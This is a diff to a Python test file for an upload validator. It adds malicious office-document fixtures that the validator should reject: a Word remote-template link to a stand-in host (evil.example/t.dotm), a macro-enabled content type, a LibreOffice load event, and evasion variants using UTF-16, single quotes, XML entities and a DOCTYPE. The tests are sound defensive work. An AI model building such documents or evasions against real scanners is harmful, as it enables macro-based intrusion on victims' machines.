@@ -19,6 +19,13 @@ OUTSIDE_TEMPLATE = (
     'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
 
+MACRO_TYPES = CONTENT_TYPES.replace("document.main", "document.macroEnabled.main")
+LINK = OUTSIDE_TEMPLATE.replace("attachedTemplate", "hyperlink")
+LIBREOFFICE_EVENT = (
+    '<o xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
+    '<script:event-listener script:event-name="dom:load"/></o>'
+)
+
 
 def upload(name: str, content: bytes) -> SimpleUploadedFile:
     """As a form gives it; the type that the sender claims is never believed."""
@@ -100,6 +107,11 @@ def open_document(kind: str, **extra: bytes | str) -> bytes:
     return archive(parts | {name.replace("__", "/"): content for name, content in extra.items()})
 
 
+def in_utf_16(xml: str) -> bytes:
+    """The same XML in an encoding in which a search for its words finds nothing."""
+    return f'<?xml version="1.0" encoding="UTF-16"?>{xml}'.encode("utf-16")
+
+
 def xlsx() -> bytes:
     output = io.BytesIO()
     Workbook().save(output)
@@ -121,6 +133,10 @@ GOOD = {
     "foto.JPEG": (lambda: picture("JPEG"), "image/jpeg"),
     "kaart.png": (picture, "image/png"),
     "brief.docx": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+    "link.docx": (
+        lambda: docx(word___rels__document_dot_xml_dot_rels=LINK),
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+    ),
     "lijst.xlsx": (xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
     "brief.odt": (lambda: open_document("text"), "application/vnd.oasis.opendocument.text"),
     "lijst.ods": (lambda: open_document("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
@@ -167,7 +183,12 @@ BAD = {
     "macro": ("brief.docx", lambda: docx(word__vbaProject_dot_bin=b"x"), "macros"),
     "macro type": (
         "brief.docx",
-        lambda: archive({"[Content_Types].xml": "ms-word.document.macroEnabled", "word/document.xml": ""}),
+        lambda: archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": "", "word/m.bin": "x"}),
+        "macros",
+    ),
+    "macro type in other letters": (
+        "brief.docx",
+        lambda: archive({"[Content_Types].xml": in_utf_16(MACRO_TYPES), "word/document.xml": "<d/>"}),
         "macros",
     ),
     "control": ("brief.docx", lambda: docx(word__activeX__activeX1_dot_xml="x"), "macros"),
@@ -176,6 +197,38 @@ BAD = {
     "template from elsewhere": (
         "brief.docx",
         lambda: docx(word___rels__settings_dot_xml_dot_rels=OUTSIDE_TEMPLATE),
+        "macros",
+    ),
+    "template in single quotes": (
+        "brief.docx",
+        lambda: docx(word___rels__settings_dot_xml_dot_rels=OUTSIDE_TEMPLATE.replace('"', "'")),
+        "macros",
+    ),
+    "template in other letters": (
+        "brief.docx",
+        lambda: docx(word___rels__settings_dot_xml_dot_rels=in_utf_16(OUTSIDE_TEMPLATE)),
+        "macros",
+    ),
+    "template with an entity": (
+        "brief.docx",
+        lambda: docx(word___rels__settings_dot_xml_dot_rels=OUTSIDE_TEMPLATE.replace("Ext", "E&#120;t")),
+        "macros",
+    ),
+    "picture from elsewhere": (
+        "brief.docx",
+        lambda: docx(
+            word___rels__document_dot_xml_dot_rels=OUTSIDE_TEMPLATE.replace("attachedTemplate", "image")
+        ),
+        "macros",
+    ),
+    "relations with a doctype": (
+        "brief.docx",
+        lambda: docx(word___rels__settings_dot_xml_dot_rels=f"<!DOCTYPE r []>{OUTSIDE_TEMPLATE}"),
+        "broken",
+    ),
+    "libreoffice event": (
+        "brief.odt",
+        lambda: open_document("text", **{"content.xml": LIBREOFFICE_EVENT}),
         "macros",
     ),
     "libreoffice macro": ("brief.odt", lambda: open_document("text", Basic__Standard__a="x"), "macros"),
